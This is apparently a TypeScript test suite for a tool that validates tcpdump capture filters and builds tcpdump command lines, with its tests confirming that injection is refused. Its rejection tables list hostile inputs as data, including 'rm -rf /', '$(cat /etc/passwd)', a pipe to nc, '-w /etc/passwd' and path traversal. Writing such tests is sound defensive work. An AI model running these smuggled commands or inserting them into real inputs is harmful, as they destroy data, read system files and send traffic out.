// The capture filter: built filters and accepted user filters must compile in real tcpdump;
// hostile input must be refused with the offending token named; argv never holds a shell line.

import { expect } from 'chai';
import { execFileSync, spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  buildCaptureFilter,
  buildTcpdumpArgv,
  DEFAULT_SNAP_LENGTH,
  MAX_USER_FILTER_LENGTH,
  validateUserFilter,
} from '../../operator/capture/filter.ts';
import type { CaptureFilterSpec } from '../../operator/capture/filter.ts';

const FIXTURE = join(fileURLToPath(new URL('../fixtures/pcap/', import.meta.url)), 'syn-no-synack.pcap');

/** Compiles a filter with tcpdump (-d prints the BPF program) for an Ethernet capture file. */
function tcpdumpCompiles(expression: string): { ok: boolean; stderr: string } {
  const result = spawnSync('tcpdump', ['-d', '-r', FIXTURE, '--', expression], { encoding: 'utf8' });
  return { ok: result.status === 0, stderr: result.stderr };
}

function rejected(text: string): { error: string; token?: string } {
  const result = validateUserFilter(text);
  if (result.ok) throw new Error(`expected ${JSON.stringify(text)} to be rejected, got ${result.expression}`);
  return result;
}

describe('capture/filter: validateUserFilter accepts the allowlisted grammar', function () {
  const valid: Array<[string, string]> = [
    ['host 10.0.0.1', 'host 10.0.0.1'],
    ['src host 10.0.0.1 and dst port 8080', 'src host 10.0.0.1 and dst port 8080'],
    ['net 10.244.0.0/16', 'net 10.244.0.0/16'],
    ['not port 22', 'not port 22'],
    ['tcp port 443 or udp port 53', 'tcp port 443 or udp port 53'],
    ['tcp dst portrange 30000-32767', 'tcp dst portrange 30000-32767'],
    ['icmp or icmp6', 'icmp or icmp6'],
    ['ip6 host fd00::1', 'ip6 host fd00::1'],
    ['ip src net 192.168.0.0/24', 'ip src net 192.168.0.0/24'],
    ['host 2001:db8::1 and not (port 22 or port 2222)', 'host 2001:db8::1 and not (port 22 or port 2222)'],
    ['  ((tcp))   and  (  host 10.1.2.3 )  ', '((tcp)) and (host 10.1.2.3)'],
    ['net fd00:10::/64', 'net fd00:10::/64'],
    ['port 1 or port 65535', 'port 1 or port 65535'],
    ['ip or ip6', 'ip or ip6'],
    ['udp', 'udp'],
  ];
  for (const [input, canonical] of valid) {
    it(`accepts ${JSON.stringify(input)} and tcpdump compiles it`, function () {
      const result = validateUserFilter(input);
      expect(result).to.deep.equal({ ok: true, expression: canonical });
      const compiled = tcpdumpCompiles(canonical);
      expect(compiled.ok, compiled.stderr).to.equal(true);
    });
  }

  it('treats an empty or blank filter as no filter', function () {
    expect(validateUserFilter('')).to.deep.equal({ ok: true, expression: '' });
    expect(validateUserFilter('   ')).to.deep.equal({ ok: true, expression: '' });
  });

  it(`accepts exactly ${MAX_USER_FILTER_LENGTH} characters and no more`, function () {
    const base = 'port 80';
    let filter = base;
    while (filter.length + ' or port 80'.length <= MAX_USER_FILTER_LENGTH) filter += ' or port 80';
    filter = filter.padEnd(MAX_USER_FILTER_LENGTH, ' ');
    expect(filter.length).to.equal(MAX_USER_FILTER_LENGTH);
    expect(validateUserFilter(filter).ok).to.equal(true);
    expect(rejected(`${filter} `).error).to.equal(`filter is ${MAX_USER_FILTER_LENGTH + 1} characters long; the limit is ${MAX_USER_FILTER_LENGTH}`);
  });
});

describe('capture/filter: validateUserFilter refuses hostile and invalid input', function () {
  const hostile: Array<[string, string]> = [
    ['; rm -rf /', ';'],
    ['$(reboot)', '$'],
    ['host $(cat /etc/passwd)', '$'],
    ['`id`', '`id`'],
    ['port 80 `id`', '`id`'],
    ['-w /etc/passwd', '-w'],
    ['port 80 -w /etc/passwd', '-w'],
    ['port 80 | nc 1.2.3.4 9', '|'],
    ['port 80 && reboot', '&&'],
    ['host localhost', 'localhost'],
    ['port http', 'http'],
    ['tcp[13] & 2 != 0', 'tcp[13]'],
    ['ether host 00:11:22:33:44:55', 'ether'],
    ['host 10.0.0.1%eth0', '10.0.0.1%eth0'],
    ["host 10.0.0.1' or '1", "10.0.0.1'"],
  ];
  for (const [input, token] of hostile) {
    it(`refuses ${JSON.stringify(input)} naming ${JSON.stringify(token)}`, function () {
      const result = rejected(input);
      expect(result.token).to.equal(token);
      expect(result.error).to.contain(JSON.stringify(token.length > 40 ? `${token.slice(0, 40)}...` : token));
    });
  }

  it('refuses the second token of a "port 80; ..." line: ";" glued to the port', function () {
    const result = rejected('port 80; rm -rf /');
    expect(result.token).to.equal('80;');
    expect(result.error).to.equal('unexpected token "80;" where a port number 1-65535 was expected');
  });

  it('refuses newlines, tabs, NUL and non-ASCII with the character named', function () {
    const newline = rejected('port 80\nrm -rf /');
    expect(newline.token).to.equal('\n');
    expect(newline.error).to.equal('character "\\n" at position 7 is not allowed');
    expect(rejected('port\t80').token).to.equal('\t');
    expect(rejected('port 80\u0000').token).to.equal('\u0000');
    expect(rejected('host ｆｄ00::1').token).to.equal('ｆ');
  });

  it('refuses 4 KB of input before parsing it', function () {
    const result = rejected('port 80 or '.repeat(400));
    expect(result.error).to.equal('filter is 4400 characters long; the limit is 256');
    expect(result.token).to.equal(undefined);
  });

  it('refuses out-of-range ports, reversed ranges and leading zeros', function () {
    expect(rejected('port 0').token).to.equal('0');
    expect(rejected('port 65536').token).to.equal('65536');
    expect(rejected('port 080').token).to.equal('080');
    expect(rejected('portrange 2000-1000').token).to.equal('2000-1000');
    expect(rejected('portrange 1-70000').token).to.equal('1-70000');
  });

  it('refuses bad addresses and CIDRs with host bits (tcpdump would too)', function () {
    expect(rejected('host 10.0.0.256').token).to.equal('10.0.0.256');
    expect(rejected('host 10.0.0.0/8').token).to.equal('10.0.0.0/8');
    expect(rejected('net 10.0.0.1/8').error).to.contain('a CIDR with zero host bits');
    expect(tcpdumpCompiles('net 10.0.0.1/8').ok).to.equal(false);
    expect(rejected('net 10.0.0.0/33').token).to.equal('10.0.0.0/33');
    expect(rejected('net fd00::1/64').token).to.equal('fd00::1/64');
    expect(rejected('net 10.0.0.0').token).to.equal('10.0.0.0');
    expect(rejected('ip host fd00::1').error).to.contain('an IPv4 address after "ip"');
    expect(rejected('ip6 host 10.0.0.1').error).to.contain('an IPv6 address after "ip6"');
  });

  it('refuses broken structure', function () {
    expect(rejected('(port 80').error).to.equal('filter ends where ")" was expected');
    expect(rejected('port 80)').token).to.equal(')');
    expect(rejected('port 80 and').error).to.equal('filter ends where a filter primitive was expected');
    expect(rejected('port 80 port 81').token).to.equal('port');
    expect(rejected('and port 80').token).to.equal('and');
    expect(rejected('tcp host 10.0.0.1').token).to.equal('host');
    expect(rejected('icmp port 7').token).to.equal('port');
    expect(rejected('src').error).to.equal('filter ends where "host", "net", "port" or "portrange" was expected');
    expect(rejected('port').error).to.equal('filter ends where a port number was expected');
  });
});

describe('capture/filter: buildCaptureFilter', function () {
  const cases: Array<[CaptureFilterSpec, string]> = [
    [
      { protocol: 'TCP', destinationIps: ['10.96.0.12'], destinationPort: 80 },
      '(host 10.96.0.12 and tcp port 80) or (port 53) or (icmp or icmp6)',
    ],
    [
      { protocol: 'HTTPS', destinationIps: ['10.96.0.12', 'fd00::12'], destinationPort: 443 },
      '((host 10.96.0.12 or host fd00::12) and tcp port 443) or (port 53) or (icmp or icmp6)',
    ],
    [{ protocol: 'UDP', destinationIps: ['10.0.0.5'], destinationPort: 5000, includeDns: false }, '(host 10.0.0.5 and udp port 5000) or (icmp or icmp6)'],
    [{ protocol: 'DNS', destinationIps: ['10.96.0.10'] }, '(host 10.96.0.10 and port 53) or (icmp or icmp6)'],
    [{ protocol: 'ICMP', destinationIps: ['10.0.0.9'] }, '(host 10.0.0.9 and (icmp or icmp6)) or (port 53)'],
    [{ protocol: 'TCP', destinationIps: [], destinationPort: 8080, includeDns: false, includeIcmp: false }, 'tcp port 8080'],
    [
      { protocol: 'HTTP', destinationIps: ['10.96.0.12'], destinationPort: 80, extraFilter: 'not net 10.244.3.0/24' },
      '((host 10.96.0.12 and tcp port 80) or (port 53) or (icmp or icmp6)) and (not net 10.244.3.0/24)',
    ],
    [{ protocol: 'TCP', destinationIps: ['10.0.0.1'], destinationPort: 80, includeDns: false, includeIcmp: false, extraFilter: '  ' }, 'host 10.0.0.1 and tcp port 80'],
  ];
  for (const [spec, expected] of cases) {
    it(`${spec.protocol} ${spec.destinationIps.join(',') || '(any)'}${spec.extraFilter ? ` + ${JSON.stringify(spec.extraFilter)}` : ''}`, function () {
      expect(buildCaptureFilter(spec)).to.deep.equal({ ok: true, expression: expected });
      const compiled = tcpdumpCompiles(expected);
      expect(compiled.ok, compiled.stderr).to.equal(true);
      // What we build also passes our own grammar.
      expect(validateUserFilter(expected).ok).to.equal(true);
    });
  }

  it('refuses a hostile extra filter, naming the token', function () {
    expect(buildCaptureFilter({ protocol: 'TCP', destinationIps: ['10.0.0.1'], destinationPort: 80, extraFilter: '$(reboot)' })).to.deep.equal({
      ok: false,
      error: 'capture filter rejected: unexpected token "$" where a filter primitive (host, net, port, portrange, tcp, udp, icmp, icmp6, ip, ip6) was expected',
      token: '$',
    });
  });

  it('refuses destinations that are not IP literals and bad ports', function () {
    expect(buildCaptureFilter({ protocol: 'TCP', destinationIps: ['web.default.svc'], destinationPort: 80 })).to.include({
      ok: false,
      token: 'web.default.svc',
    });
    expect(buildCaptureFilter({ protocol: 'TCP', destinationIps: ['10.0.0.1'], destinationPort: 70000 })).to.include({ ok: false, token: '70000' });
  });
});

describe('capture/filter: buildTcpdumpArgv', function () {
  const filter: CaptureFilterSpec = { protocol: 'TCP', destinationIps: ['10.96.0.12'], destinationPort: 80 };

  it('builds an argv with the filter as one element after "--"', function () {
    const result = buildTcpdumpArgv({ interface: 'eth0', outputPath: '/capture/out.pcap', filter, maxPackets: 500 });
    expect(result).to.deep.equal({
      ok: true,
      filter: '(host 10.96.0.12 and tcp port 80) or (port 53) or (icmp or icmp6)',
      argv: [
        'tcpdump', '-i', 'eth0', '-nn', '-U', '--immediate-mode', '-s', String(DEFAULT_SNAP_LENGTH), '-c', '500',
        '-w', '/capture/out.pcap', '--', '(host 10.96.0.12 and tcp port 80) or (port 53) or (icmp or icmp6)',
      ],
    });
  });

  it('wraps in timeout(1) with SIGINT when a duration is given', function () {
    const result = buildTcpdumpArgv({ interface: 'any', outputPath: '/tmp/c.pcap', filter, durationSeconds: 10, snapLength: 96 });
    expect(result.ok).to.equal(true);
    if (!result.ok) return;
    expect(result.argv.slice(0, 5)).to.deep.equal(['timeout', '-s', 'INT', '10', 'tcpdump']);
    expect(result.argv).to.include.members(['-s', '96']);
  });

  it('runs: tcpdump accepts the argv (reading a file instead of an interface)', function () {
    const result = buildTcpdumpArgv({ interface: 'eth0', outputPath: '/dev/null', filter: { ...filter, extraFilter: 'not port 22' } });
    expect(result.ok).to.equal(true);
    if (!result.ok) return;
    // Same options and filter, but -r FILE instead of -i: no root needed to check the argv parses.
    const argv = result.argv.slice(1).map((arg) => (arg === '-i' ? '-r' : arg === 'eth0' ? FIXTURE : arg));
    const output = execFileSync('tcpdump', argv, { stdio: ['ignore', 'pipe', 'pipe'] });
    expect(output.length).to.equal(0);
  });

  it('refuses unsafe interface names, paths and out-of-range numbers', function () {
    const bad = [
      { interface: '-w', outputPath: '/tmp/x.pcap' },
      { interface: 'eth0;id', outputPath: '/tmp/x.pcap' },
      { interface: 'averyveryverylongname', outputPath: '/tmp/x.pcap' },
      { interface: 'eth0', outputPath: 'relative.pcap' },
      { interface: 'eth0', outputPath: '/tmp/../etc/passwd' },
      { interface: 'eth0', outputPath: '/tmp/a b.pcap' },
      { interface: 'eth0', outputPath: '/tmp/$(id).pcap' },
    ];
    for (const options of bad) {
      expect(buildTcpdumpArgv({ ...options, filter }).ok, JSON.stringify(options)).to.equal(false);
    }
    expect(buildTcpdumpArgv({ interface: 'eth0', outputPath: '/tmp/x.pcap', filter, snapLength: 20 })).to.deep.equal({
      ok: false,
      error: 'snapLength must be an integer from 68 to 262144, got 20',
    });
    expect(buildTcpdumpArgv({ interface: 'eth0', outputPath: '/tmp/x.pcap', filter, maxPackets: 0 }).ok).to.equal(false);
    expect(buildTcpdumpArgv({ interface: 'eth0', outputPath: '/tmp/x.pcap', filter, durationSeconds: 1.5 }).ok).to.equal(false);
  });

  it('passes the filter error through', function () {
    const result = buildTcpdumpArgv({ interface: 'eth0', outputPath: '/tmp/x.pcap', filter: { ...filter, extraFilter: '-w /etc/passwd' } });
    expect(result).to.deep.equal({
      ok: false,
      error: 'capture filter rejected: unexpected token "-w" where a filter primitive (host, net, port, portrange, tcp, udp, icmp, icmp6, ip, ip6) was expected',
      token: '-w',
    });
  });
});
